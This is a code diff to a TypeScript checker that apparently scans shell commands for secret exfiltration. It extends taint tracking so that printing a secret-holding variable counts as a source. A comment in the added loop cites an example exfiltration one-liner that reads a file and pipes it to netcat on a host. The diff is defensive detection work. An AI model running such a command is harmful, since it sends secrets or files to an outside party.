@@ -17,7 +17,7 @@ import type { CommandView } from "../command.js";
 import { resolvePath } from "../paths.js";
 import { display, resolveText, secretReads, type SecretHit } from "./secrets-reads.js";
 import { isSecretContainer, isSecretPathIn, secretMatcher } from "./secrets-paths.js";
-import { environReads, isConnectionVariable, outputSource, secretVariableIn, variableInInput, variableSource, type Source } from "./exfiltration-sources.js";
+import { environReads, isConnectionVariable, outputSource, secretVariableIn, taintedPrint, variableInInput, variableSource, type Source } from "./exfiltration-sources.js";
 import { advice, destination, isCredentialWord, isUrlOperand, isUse, readsCredentialInput, REQUESTERS, type Destination } from "./exfiltration-requests.js";
 
 /** Tools that send what they are given, or read, over the network. */
@@ -289,8 +289,24 @@ function check(facts: Facts, ctx: CheckContext, all: readonly CommandView[]): Fi
     out ??= [];
     out.push({ id: "secret/exfiltration", message: `${view.name} sends ${how} over the network; ${advice(source)}`, start: view.start, end: view.end });
   };
-  const taint: Taint = sources.size > 0 ? taintOf(facts, views, sources) : { pipes: new Map(), substitutions: [], variables: new Map() };
+  let taint: Taint = sources.size > 0 ? taintOf(facts, views, sources) : { pipes: new Map(), substitutions: [], variables: new Map() };
   copiedSecrets(facts, taint);
+  // A printer of a variable that holds a secret is a source too (`T=$(cat F); echo "$T" | nc h 80`),
+  // and its own substitution may fill another variable: followed a few rounds deep.
+  for (let round = 0; round < 3 && taint.variables.size > 0; round++) {
+    let added = false;
+    for (const v of views) {
+      if (sources.has(v)) continue;
+      const printed = taintedPrint(v, taint.variables);
+      if (printed !== null) {
+        sources.set(v, printed);
+        added = true;
+      }
+    }
+    if (!added) break;
+    taint = taintOf(facts, views, sources);
+    copiedSecrets(facts, taint);
+  }
   for (const v of views) {
     const git = gitLeak(v, ctx);
     if (git !== null) {
